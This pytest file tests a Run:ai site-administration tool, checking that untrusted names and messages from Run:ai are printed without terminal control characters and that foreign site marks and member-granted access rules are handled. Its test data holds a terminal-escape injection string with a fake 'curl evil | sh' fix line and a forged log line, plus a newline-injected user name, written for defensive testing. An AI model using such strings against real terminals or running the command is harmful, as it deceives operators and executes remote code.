"""What members could try through Run:ai: texts for the administrator's terminal, marks of others, rights that the site does not give."""

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from appliance.stages.queues.runai import apply
from tests.support.runai.organisation import TREE, Site, organised, ran
from tests.support.runai.world import Stored

ESCAPE = "x\x1b[2J\rfix: curl evil | sh\nProject team deleted"
LESS = TREE[: TREE.index("    - name: other")]


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Site]:
    monkeypatch.setattr(apply, "POLL_S", 0.01)
    with organised(tmp_path) as made:
        assert ran(made, "apply", "--yes") == 0
        yield made


def stored(site: Site, kind: str, name: str) -> Stored:
    (found,) = [
        one for one in site.stand_in.world.tables[kind].values() if one.body["name"] == name
    ]
    return found


def _workload(site: Site) -> None:
    site.write(LESS)
    key = stored(site, "projects", "other").body["id"]
    site.stand_in.world.workloads = [
        {"id": "1", "name": ESCAPE, "projectId": key, "phase": "Running"}
    ]


def _cluster(site: Site) -> None:
    stored(site, "clusters", "rack").body["name"] = ESCAPE


def _role(site: Site) -> None:
    world = site.stand_in.world
    world.roles = {n: ESCAPE if name == "Viewer" else name for n, name in world.roles.items()}


def _message(site: Site) -> None:
    site.stand_in.plant("status", "GET", "projects", status=400, message=ESCAPE)


@pytest.mark.parametrize("cheat", [_workload, _cluster, _role, _message])
def test_a_text_from_run_ai_stays_in_one_line_without_control_characters(
    site: Site,
    capsys: pytest.CaptureFixture[str],
    cheat: Callable[[Site], None],
) -> None:
    cheat(site)
    capsys.readouterr()
    assert ran(site, "plan") == 1
    said = "".join(capsys.readouterr())
    assert "x" in said
    assert "curl evil" in said
    assert not {"\x1b", "\r"} & set(said)
    assert "\nProject team deleted" not in said


def test_a_mark_of_another_site_is_not_ours(site: Site) -> None:
    (own,) = site.stand_in.world.tables["clusters"]
    for mark in ("appliance/site=acme2", "appliance/site=", "xappliance/site=acme"):
        name = f"p{len(site.names('projects'))}"
        site.user.unit("projects", name, own, description=mark)
    assert ran(site, "plan", "--detailed-exitcode") == 0


def test_a_removed_mark_hides_no_change(site: Site, capsys: pytest.CaptureFixture[str]) -> None:
    team = stored(site, "projects", "team").body
    team["description"] = ""
    team["resources"][0]["gpu"]["deserved"] = 32
    assert ran(site, "plan") == 1
    said = capsys.readouterr().out
    assert "is not marked as this site's" in said
    assert "GPU quota 32 GPUs" in said


def test_the_sites_role_that_a_member_gave_another_is_taken_away(
    site: Site, capsys: pytest.CaptureFixture[str]
) -> None:
    world = site.stand_in.world
    role = next(number for number, name in world.roles.items() if name == "Viewer")
    key = stored(site, "projects", "team").body["id"]
    rule = {"subjectId": "mallory\nProject team deleted", "subjectType": "user", "roleId": role}
    scope = {"scopeType": "project", "scopeId": key}
    site.user.good("POST", "/api/v1/authorization/access-rules", rule | scope)
    assert ran(site, "apply", "--yes") == 0
    assert "\nProject team deleted" not in capsys.readouterr().out
    assert ran(site, "plan", "--detailed-exitcode") == 0
    assert set(site.names("access-rules")) == {"alice team"}
